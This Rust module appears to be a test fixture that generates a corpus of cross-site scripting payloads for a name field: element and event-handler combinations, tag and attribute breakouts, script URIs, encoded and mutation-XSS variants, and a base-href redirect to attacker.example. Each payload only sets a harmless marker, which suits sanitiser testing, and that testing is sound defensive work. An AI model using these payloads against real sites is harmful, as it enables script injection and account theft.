//! What an attacker would put into a name: markup and script in the ways they are known to slip through.

const ELEMENTS: [&str; 20] = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "marquee",
    "select autofocus",
    "textarea autofocus",
    "math",
    "button autofocus",
    "form",
    "div style=animation-name:spin",
    "a href=x autofocus",
    "video><source",
    "svg><animate attributeName=x dur=1s",
];

const EVENTS: [&str; 9] = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onanimationstart",
    "onstart",
    "onclick",
];

/// Everything that is not an element with a handler.
const OTHERS: [&str; 36] = [
    "<script>window.hit=1</script>",
    "<script src=data:text/javascript,window.hit=1></script>",
    "</script><script>window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "\"><script>window.hit=1</script>",
    "'><script>window.hit=1</script>",
    "\" onmouseover=\"window.hit=1",
    "' onmouseover='window.hit=1",
    "` onmouseover=`window.hit=1",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    " javascript:window.hit=1",
    "java\tscript:window.hit=1",
    "data:text/html,<script>parent.window.hit=1</script>",
    "vbscript:window.hit=1",
    "<iframe srcdoc=\"<script>parent.window.hit=1</script>\"></iframe>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:window.hit=1>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "<style>*{display:none}</style>",
    "<template><img src=x onerror=window.hit=1></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<svg><style><img src=x onerror=window.hit=1></style>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "%3Cimg%20src=x%20onerror=window.hit=1%3E",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "\u{202e}gpj.exe<img src=x onerror=window.hit=1>",
    "\u{0}<img src=x onerror=window.hit=1>\u{7f}\u{1b}[31m",
];

/// All of them, each different: well over 200.
pub fn corpus() -> Vec<String> {
    let handlers = ELEMENTS
        .iter()
        .flat_map(|element| EVENTS.iter().map(move |event| format!("<{element} {event}=window.hit=1>")));
    handlers.chain(OTHERS.iter().map(|other| (*other).to_owned())).collect()
}
